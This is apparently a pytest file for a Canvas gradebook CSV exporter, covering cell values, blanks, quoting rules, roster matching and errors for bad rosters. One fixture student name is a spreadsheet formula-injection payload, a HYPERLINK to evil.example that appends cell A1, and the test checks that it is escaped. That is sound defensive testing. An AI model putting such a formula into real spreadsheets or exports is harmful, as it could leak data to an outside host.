"""Canvas gradebook import CSV: exact cells and blanks, importer rules, matching, identities."""

from __future__ import annotations

import csv
import dataclasses
import io
from pathlib import Path

import pytest

from alr.errors import ExportError
from autograder.export.canvas import export_canvas, read_roster
from autograder.export.gradesheet import GradeSheet

from .conftest import CANVAS_ROSTER, assert_golden

HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
QUIZ = "skill-checks"
COLUMNS = ["3.1 Geometry of RMSProp", "4.1 Bias correction", "4.3 AMSGrad", "Skill checks (5103)"]


def _export(sheet: GradeSheet, tmp_path: Path, roster: Path = CANVAS_ROSTER, **kw):
    out = tmp_path / "canvas.csv"
    report = export_canvas(sheet=sheet, roster=roster, out=out, **kw)
    return out.read_bytes().decode("utf-8"), report


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_canvas_csv_has_exactly_the_graded_cells(sheet: GradeSheet, tmp_path: Path) -> None:
    """Scores at full precision, blank where nothing was submitted, identities untouched."""
    text, report = _export(sheet, tmp_path)
    rows = _rows(text)
    assert rows[0] == HEADER + COLUMNS
    assert rows[1] == ["Points Possible", "", "", "", "", "6", "6", "4", "8"]
    assert rows[2:] == [
        ["Liddell, Alice", "1001", "S-0001", "-alice@school.example", "Section A"]
        + ["6", "6", "3.333333333333333", "7"],
        ['\'=HYPERLINK("http://evil.example/"&A1,"Bob")', "1002", "S-0002", "bob", "'+Section B"]
        + ["4", "4.5", "", "2"],
    ]
    assert report.students == ("alice", "bob")
    assert report.blanks == (("bob", "4.3"),)
    assert [p.student for p in report.problems] == ["carol"]
    assert_golden("canvas.csv", text)


def test_student_missing_from_the_roster_is_listed_and_strict_refuses(
    sheet: GradeSheet, tmp_path: Path
) -> None:
    _, report = _export(sheet, tmp_path)
    assert report.unmatched == ("carol",)
    assert report.missing == ("Eve, Absent",)
    (tmp_path / "canvas.csv").unlink()
    with pytest.raises(ExportError, match="1 graded student.* no row in the Canvas roster: carol"):
        _export(sheet, tmp_path, strict=True)
    assert not (tmp_path / "canvas.csv").exists()


def test_a_full_roster_writes_carols_blanks(sheet: GradeSheet, tmp_path: Path) -> None:
    roster = tmp_path / "roster.csv"
    roster.write_text(CANVAS_ROSTER.read_text() + '"Singer, Carol",1003,,carol,Section B,,,,\n')
    text, report = _export(sheet, tmp_path, roster=roster, strict=True)
    assert _rows(text)[4] == ["Singer, Carol", "1003", "", "carol", "Section B", "5", "", "", ""]
    assert report.unmatched == ()
    assert report.blanks == (("bob", "4.3"), ("carol", "4.1"), ("carol", "4.3"), ("carol", QUIZ))


def test_canvas_csv_follows_the_importer_rules(sheet: GradeSheet, tmp_path: Path) -> None:
    """Every field quoted, CRLF line ends, scores parse as numbers without an exponent."""
    text, _ = _export(sheet, tmp_path)
    lines = text.split("\r\n")
    assert lines[-1] == ""
    for line in lines[:-1]:
        assert line.startswith('"') and line.endswith('"')
    for row in _rows(text)[1:]:
        for grade in row[5:]:
            assert grade == "" or (float(grade) >= 0 and "e" not in grade.lower())


def test_points_possible_is_the_maximum_to_four_decimals(sheet: GradeSheet, tmp_path: Path):
    """Points Possible sets the assignment's points in Canvas: no float noise from summing
    per-test shares (10.000001000000001 from shares written to 6 places); grades keep theirs."""
    noisy = (dataclasses.replace(sheet.columns[0], max_score=10.000001000000001),)
    text, _ = _export(dataclasses.replace(sheet, columns=noisy), tmp_path)
    assert _rows(text)[1][5:] == ["10"]


def test_user_id_of_the_results_matches_first(sheet: GradeSheet, tmp_path: Path) -> None:
    """alice's results carry Canvas user id 1001: she matches that row, whatever its SIS ids."""
    roster = read_roster(CANVAS_ROSTER)
    assert "alice" not in {v for s in roster.students for v in s.fields.values()}
    text, report = _export(sheet, tmp_path)
    assert "alice" in report.students
    assert _rows(text)[2][1] == "1001"


def test_assignment_ids_come_from_the_roster(sheet: GradeSheet, tmp_path: Path) -> None:
    """A roster column 'Title (id)' gives our column of that title the Canvas id."""
    roster = tmp_path / "roster.csv"
    roster.write_text(
        CANVAS_ROSTER.read_text().replace("Module 3.1 (5101)", "3.1 Geometry of RMSProp (5101)")
    )
    text, _ = _export(sheet, tmp_path, roster=roster)
    assert _rows(text)[0][5:] == ["3.1 Geometry of RMSProp (5101)", *COLUMNS[1:]]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("Name,Email\nA,a@x\n", "expected a Canvas header starting 'Student,ID"),
        ("Student,ID,Section\nA,1\n", "line 2: 2 fields, the header has 3"),
        ("Student,ID,SIS User ID,Section\nA,1,s1,X\nB,2,s1,X\n", "SIS User ID 's1' belongs to two"),
        ("Student,ID,Section\nA,bob,X\n", "line 2: ID: expected a Canvas user ID, got 'bob'"),
        ("Student,ID,SIS Login ID,Section\nA,1, a@x ,X\n", "line 2: SIS Login ID: expected an SIS"),
    ],
)
def test_bad_roster_is_refused(sheet: GradeSheet, tmp_path: Path, content: str, message: str):
    path = tmp_path / "roster.csv"
    path.write_text(content)
    with pytest.raises(ExportError, match=message):
        export_canvas(sheet=sheet, roster=path, out=tmp_path / "o.csv")
    assert not (tmp_path / "o.csv").exists()


def test_two_results_matching_one_student_are_refused(sheet: GradeSheet, tmp_path: Path) -> None:
    """'bob' (SIS Login ID) and '1002' (ID) are the same person: refuse rather than guess."""
    twin = GradeSheet(sheet.columns, sheet.rows, (*sheet.students, "1002"), sheet.identities)
    with pytest.raises(ExportError, match="both match roster student"):
        export_canvas(sheet=twin, roster=CANVAS_ROSTER, out=tmp_path / "c.csv")
